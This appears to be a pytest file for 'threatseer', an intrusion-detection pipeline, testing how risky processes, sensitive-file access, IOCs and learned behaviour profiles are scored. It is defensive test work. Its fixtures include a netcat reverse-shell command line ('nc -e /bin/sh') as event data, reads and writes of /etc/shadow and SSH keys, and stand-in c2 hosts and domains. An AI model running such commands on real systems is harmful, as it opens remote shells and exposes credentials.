"""The static, dynamic and profile engines and the score/action stage, on real events."""

from __future__ import annotations

from typing import Any

from hub_helpers import connect_event, dns_event, exec_event, open_event

from threatseer.hub.config import ActionConfig, ProfileConfig
from threatseer.hub.engines.profile import ProfileEngine, address_prefix, argv_shape, subject_of
from threatseer.hub.engines.static import is_write
from threatseer.hub.indicators import Indicator
from threatseer.hub.profiles import ProfileStore
from threatseer.hub.rules.model import (
    Bundle,
    Iocs,
    Manifest,
    RiskyProcess,
    SensitiveFile,
    StaticData,
)
from threatseer.hub.scoring import Pipeline

EVIL_SHA = "ab" * 32


class TinyRuleSet:
    """A RuleSet of one query rule (the rule compiler is another engineer's module)."""

    def match(self, event: dict[str, Any]) -> list[Indicator]:
        if event.get("event.action") == "exec" and "-e" in (event.get("process.args") or ()):
            return [Indicator("dynamic", "nc-exec", "query", "netcat with -e", 40, ("t1059",))]
        return []

    def __len__(self) -> int:
        return 1


def bundle() -> Bundle:
    return Bundle(
        Manifest("test", "1"),
        StaticData(
            risky_processes={"nc": RiskyProcess("nc", "netcat", 30, ("tool",))},
            sensitive_files=(SensitiveFile("/etc/shadow", "password hashes", 10, 60),
                             SensitiveFile("/home/*/.ssh/*", "ssh keys", 5, 50)),
            iocs=Iocs(sha256={EVIL_SHA: "known miner"},
                      networks={"203.0.113.7": "c2 host", "198.51.100.0/24": "c2 net",
                                "2001:db8:bad::/48": "c2 v6"},
                      domains={"evil.example": "c2 domain"}),
        ),
        ruleset=TinyRuleSet(),
    )


def score(events: list[dict[str, Any]], **actions: int) -> list[dict[str, Any]]:
    pipe = Pipeline(ActionConfig(**{"toss_below": -1000, "alert_at": 50, **actions}), bundle())
    res = pipe.score(events, "s1", 7)
    return res.emitted


def rules(ev: dict[str, Any]) -> list[str]:
    return [i["rule"] for i in ev["threatseer.indicators"]]


def test_static_risky_process_and_dynamic_rule_add_up_to_an_alert() -> None:
    (ev,) = score([exec_event("/usr/bin/nc", ["nc", "-e", "/bin/sh", "1.2.3.4"])])
    assert rules(ev) == ["risky_process:nc", "nc-exec"]
    assert ev["event.risk_score"] == 70
    assert ev["event.kind"] == "alert"
    assert ev["agent.id"] == "s1" and ev["threatseer.batch.seq"] == 7
    assert ev["threatseer.indicators"][0]["engine"] == "static"
    assert set(ev["threatseer.indicators"][0]) == {
        "engine", "rule", "type", "description", "extra_info", "score", "tags"}


def test_sensitive_files_score_reads_and_writes_apart() -> None:
    """Reads score on opens; writes on the file change the sensor reports with them (one
    indicator per write, not one on the open and one on the change)."""
    read, write_open, write, moved, glob, other = score([
        open_event("/etc/shadow", ["read"]),
        open_event("/etc/shadow", ["write", "truncate"]),
        {**open_event("/etc/shadow", ["write", "truncate"]), "event.action": "truncate"},
        {**open_event("/etc/shadow", ["write"]), "event.action": "rename",
         "threatseer.file.source_path": "/etc/nshadow"},
        open_event("/home/bob/.ssh/id_rsa", ["read"]),
        open_event("/etc/hostname", ["read"]),
    ])
    assert read["event.risk_score"] == 10 and read["event.kind"] == "event"
    assert write_open["event.risk_score"] == 0
    assert write["event.risk_score"] == 60 and write["event.kind"] == "alert"
    assert write["threatseer.indicators"][0]["extra_info"]["access"] == "write"
    assert moved["event.risk_score"] == 60
    assert moved["threatseer.indicators"][0]["extra_info"]["path"] == "/etc/shadow"
    assert glob["event.risk_score"] == 5 and rules(glob) == ["/home/*/.ssh/*"]
    assert other["event.risk_score"] == 0 and rules(other) == []


def test_write_intent_is_read_from_flag_lists_and_text() -> None:
    assert is_write(["write", "create"]) and is_write(("RDWR",)) and is_write("O_WRONLY|O_CREAT")
    assert not is_write(["read"]) and not is_write("O_RDONLY") and not is_write(None)
    assert not is_write([1, 2]) and not is_write([])


def test_iocs_hash_ip_cidr_ipv6_and_domain_suffix() -> None:
    evs = score([
        exec_event("/tmp/x", ["x"], **{"process.hash.sha256": EVIL_SHA}),
        connect_event("203.0.113.7"), connect_event("198.51.100.99"),
        connect_event("2001:db8:bad:1::5"), connect_event("198.51.101.1"),
        dns_event("www.EVIL.example."), dns_event("notevil.example"),
    ])
    hit = [ev["event.risk_score"] >= 100 for ev in evs]
    assert hit == [True, True, True, True, False, True, False]
    assert rules(evs[2]) == ["198.51.100.0/24"]
    assert rules(evs[5]) == ["evil.example"]


def test_actions_toss_log_alert_by_threshold() -> None:
    pipe = Pipeline(ActionConfig(toss_below=5, alert_at=50), bundle())
    res = pipe.score([open_event("/etc/hostname"), open_event("/etc/shadow"),
                      {**open_event("/etc/shadow", ["write"]), "event.action": "write-open"}],
                     "s", 1)
    assert (res.tossed, res.logged, res.alerted) == (1, 1, 1)
    assert [e["threatseer.action"] for e in res.emitted] == ["log", "alert"]


def test_bad_field_types_skip_only_that_event() -> None:
    weird = exec_event("/usr/bin/nc", 12345)  # args not a list
    good = exec_event("/usr/bin/nc", ["nc", "-e", "x"])
    evs = score([weird, good])
    assert len(evs) == 2 and evs[1]["event.risk_score"] == 70


def test_argv_shape_masks_numbers_hex_uuids_and_temp_paths() -> None:
    a = argv_shape(["sleep", "5", "--id", "3f2a9c1e-1111-2222-3333-444455556666",
                    "/tmp/tmp.Xa81bQ", "0xdeadbeef", "cafebabe1234"])
    b = argv_shape(["sleep", "300", "--id", "00000000-aaaa-bbbb-cccc-dddddddddddd",
                    "/tmp/tmp.93kzPq", "0x1", "0123456789abcdef"])
    assert a == b == "<n> --id <uuid> <tmp> <hex> <hex>"
    assert argv_shape(["ls", "-la", "/etc"]) == "-la /etc"
    # a list, a tuple and odd items: one shape
    argv = ["x", "-v", 7, None, *map(str, range(10))]
    assert argv_shape(argv) == argv_shape(tuple(argv)) == "-v <n> None" + " <n>" * 10
    assert argv_shape(["x"]) == argv_shape([]) == ""


def test_address_prefixes() -> None:
    assert address_prefix("192.0.2.77") == "192.0.2.0/24"
    assert address_prefix("2001:db8:1:2:3:4:5:6") == "2001:db8:1:2::/64"


def profile_pipeline(store: ProfileStore, **cfg: Any) -> Pipeline:
    pcfg = ProfileConfig(**{"learn_seconds": 10, "learn_min_events": 3, "abnormal_score": 20,
                            "normal_score": -5, **cfg})
    return Pipeline(ActionConfig(toss_below=-1000), None, ProfileEngine(store, pcfg))


def test_profile_learns_then_scores_inside_and_outside() -> None:
    store = ProfileStore(":memory:")
    pipe = profile_pipeline(store)
    learn = [exec_event("/usr/bin/backup", ["backup", "--keep", str(n)]) for n in range(5)]
    for i, ev in enumerate(learn):
        pipe.score([ev], "s", i, now=1000.0 + i)
    # learning needs both the events and the time: 5 events within 4 s is still learning
    (still,) = pipe.score([exec_event("/usr/bin/backup", ["backup", "--rm", "x"])], "s", 9,
                          now=1005.0).emitted
    assert still["threatseer.indicators"] == []
    normal, abnormal, parent, = pipe.score([
        exec_event("/usr/bin/backup", ["backup", "--keep", "99"]),
        exec_event("/usr/bin/backup", ["backup", "--delete-all"]),
        exec_event("/usr/bin/backup", ["backup", "--keep", "1"], parent="/usr/sbin/sshd"),
    ], "s", 10, now=1011.0).emitted
    assert normal["event.risk_score"] == -5
    assert normal["threatseer.indicators"][0]["type"] == "normal_behavior"
    assert abnormal["event.risk_score"] == 20
    assert abnormal["threatseer.indicators"][0]["type"] == "abnormal_behavior"
    assert parent["threatseer.indicators"][0]["extra_info"]["new"] == [
        "parent: /usr/sbin/sshd > /usr/bin/backup"]


def test_profile_subject_is_the_image_in_containers_and_tracks_network_and_files() -> None:
    store = ProfileStore(":memory:")
    pipe = profile_pipeline(store, learn_seconds=0, learn_min_events=2)
    img = {"container.image.name": "nginx:1.25", "container.id": "c1"}
    pipe.score([connect_event("10.1.2.3", 5432, **img), open_event("/etc/shadow", **img)],
               "s", 1, now=1.0)
    # another replica of the image, other host: same subject
    img2 = {"container.image.name": "nginx:1.25", "container.id": "c2", "host.name": "web2"}
    evs = pipe.score([connect_event("10.1.2.99", 5432, **img2),
                      connect_event("10.1.3.1", 5432, **img2),
                      connect_event("10.1.2.3", 22, **img2),
                      open_event("/etc/shadow", **img2), open_event("/etc/gshadow", **img2)],
                     "s", 2, now=2.0).emitted
    assert [e["event.risk_score"] for e in evs] == [-5, 20, 20, -5, 20]
    assert list(pipe.profile.profiles) == ["container:nginx:1.25"]


def test_domain_iocs_answered_from_the_cache_equal_the_first_answer() -> None:
    """The static engine remembers each queried name's IOC (or none): a name asked again,
    in the same batch or a later one, gets exactly the indicator the suffix walk gave."""
    names = ["www.EVIL.example.", "evil.example", "EVIL.EXAMPLE", "a.b.evil.example",
             "notevil.example", "evil.example.com", "example", "", ".", "evil..example"]
    pipe = Pipeline(ActionConfig(toss_below=-1000, alert_at=50), bundle())
    runs = []
    for seq in (1, 2):
        evs = pipe.score([dns_event(n) for n in names * 2], "s1", seq).emitted
        runs.append([ev["threatseer.indicators"] for ev in evs])
    expected = [[{"engine": "static", "rule": "evil.example", "type": "ioc",
                  "description": "c2 domain", "extra_info": {"name": n}, "score": 100,
                  "tags": ["ioc", "dns"]}] if i in (0, 1, 2, 3) else []
                for i, n in enumerate(names)] * 2
    assert runs[0] == runs[1] == expected
    static = pipe.rules.static
    assert static._domain_cache["www.EVIL.example."] == ("evil.example", "c2 domain")
    assert static._domain_cache["notevil.example"] is None


def test_subjects_are_made_once_and_equal_the_formatted_names() -> None:
    """A subject string is remembered per image or (host, executable) (str values); every
    event gets the same text as formatting it anew would, whatever the field types."""
    cases = [
        ({"container.image.name": "nginx:1"}, "container:nginx:1"),
        ({"container.image.name": "", "process.executable": "/bin/ls", "host.name": "h"},
         "host:h:/bin/ls"),
        ({"process.executable": "/bin/ls", "agent.id": "s1"}, "host:s1:/bin/ls"),
        ({"process.executable": "/bin/ls"}, "host:?:/bin/ls"),
        ({"process.executable": "/bin/ls", "host.name": 7}, "host:7:/bin/ls"),
        ({"container.image.name": ["odd"]}, "container:['odd']"),
        ({"process.executable": 5, "host.name": "h"}, "host:h:5"),
        ({"host.name": "h"}, None),
    ]
    for _ in range(2):  # the second time from what was remembered
        for ev, want in cases:
            assert subject_of(dict(ev)) == want, ev
    a = subject_of({"process.executable": "/bin/sh", "host.name": "web1"})
    assert a is subject_of({"process.executable": "/bin/sh", "host.name": "web1"})
    assert subject_of({"process.executable": "/bin/sh", "host.name": "web2"}) == "host:web2:/bin/sh"
